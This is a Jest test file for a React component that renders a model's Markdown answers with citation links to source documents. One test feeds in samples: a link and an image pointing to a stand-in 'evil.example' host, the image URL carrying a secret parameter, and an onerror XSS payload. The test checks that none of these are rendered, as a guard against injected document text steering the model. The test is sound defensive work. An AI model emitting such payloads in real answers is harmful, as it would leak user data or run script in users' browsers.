// Answers as Markdown: the subset a model writes, rendered as elements with citation links; links and images an
// answer writes (text from documents can steer a model) show as their text only.
import { describe, expect, it } from '@jest/globals';
import { render, screen } from '@testing-library/react';
import { MemoryRouter } from 'react-router';
import { AnswerText, answerBlocks } from './AnswerText';

const citation = (index: number) => ({
  __typename: 'Citation' as const,
  index,
  chunkId: `chunk-${index}`,
  page: index === 2 ? 4 : null,
  quote: 'q',
  document: { __typename: 'Document' as const, id: `doc-${index}`, title: `Doc ${index}`, fileType: 'PDF' },
  honeyJar: { __typename: 'HoneyJar' as const, id: 'jar', name: 'Jar' },
});

function show(text: string, citations = [citation(1), citation(2)]) {
  return render(
    <MemoryRouter>
      <AnswerText text={text} citations={citations as never} />
    </MemoryRouter>,
  ).container;
}

describe('AnswerText', () => {
  it('reads paragraphs, lists, headings and code blocks', () => {
    expect(
      answerBlocks(
        '# Summary\nFirst line\nsecond line\n\n- one\n- two\n  wrapped\n\n3. three\n4. four\n```\na < b\n```',
      ),
    ).toEqual([
      { kind: 'heading', text: 'Summary' },
      { kind: 'paragraph', lines: ['First line', 'second line'] },
      { kind: 'list', ordered: false, start: 1, items: ['one', 'two wrapped'] },
      { kind: 'list', ordered: true, start: 3, items: ['three', 'four'] },
      { kind: 'code', text: 'a < b' },
    ]);
    // Still streaming: the open fence runs to the end.
    expect(answerBlocks('Run:\n```sh\nnpm start')).toEqual([
      { kind: 'paragraph', lines: ['Run:'] },
      { kind: 'code', text: 'npm start' },
    ]);
  });

  it('renders emphasis and code, and turns [n] into links to the cited passage', () => {
    const root = show('Bees keep **35 °C** in the *brood* nest `daily` [1][2], not [7].');
    expect(root.querySelector('strong')?.textContent).toBe('35 °C');
    expect(root.querySelector('em')?.textContent).toBe('brood');
    expect(root.querySelector('code')?.textContent).toBe('daily');
    const links = screen.getAllByRole('link');
    expect(links.map((a) => a.getAttribute('aria-label'))).toEqual([
      'Source 1: Doc 1',
      'Source 2: Doc 2, page 4 (opens in a new tab)',
    ]);
    expect(links[0].getAttribute('href')).toContain('doc-1');
    // A number that names no retrieved passage stays text.
    expect(root.textContent).toContain('not [7].');
  });

  it('opens a PDF citation in the PDF itself at its page, in a new tab, and any other in its passage here', () => {
    show('Hives [1] and yields [2].');
    const [passage, pdf] = screen.getAllByRole('link');
    // Only PDF passages carry a page: [2] cites page 4 of a PDF.
    expect(pdf.getAttribute('href')).toBe('/api/v1/documents/doc-2/view#page=4');
    expect(pdf.getAttribute('target')).toBe('_blank');
    expect(pdf.getAttribute('rel')?.split(' ').sort()).toEqual(['noopener', 'noreferrer']);
    expect(pdf.getAttribute('title')).toBe('Doc 2, page 4');
    expect(passage.getAttribute('href')).toBe('/documents/doc-1?chunk=chunk-1');
    expect(passage.getAttribute('target')).toBeNull();
  });

  it('quotes of the extractive default come out as a list, each with its sources', () => {
    const root = show(
      'Quoted from your documents:\n- "Hive 7 gave 31 kilograms." [1][2]\n- "It rained." [2]',
    );
    expect(root.querySelector('p')?.textContent).toBe('Quoted from your documents:');
    const items = [...root.querySelectorAll('ul > li')];
    expect(items.map((li) => li.textContent)).toEqual([
      '"Hive 7 gave 31 kilograms." [1][2]',
      '"It rained." [2]',
    ]);
    expect(items[0].querySelectorAll('a.citation-marker')).toHaveLength(2);
  });

  it('shows a link or an image the answer writes as its text only, and never reads HTML', () => {
    const root = show(
      'See [the portal](https://evil.example/login) and ![chart](https://evil.example/x.png?secret=1) <img src=x onerror=alert(1)>',
    );
    expect(root.querySelectorAll('a')).toHaveLength(0);
    expect(root.querySelectorAll('img')).toHaveLength(0);
    expect(root.textContent).toBe('See the portal and chart <img src=x onerror=alert(1)>');
    expect(root.innerHTML).not.toContain('evil.example');
  });

  it('leaves a lone asterisk or an underscore inside a word alone', () => {
    const root = show('5 * 3 = 15 and snake_case_name stay as written');
    expect(root.querySelector('em')).toBeNull();
    expect(root.textContent).toBe('5 * 3 = 15 and snake_case_name stay as written');
  });
});
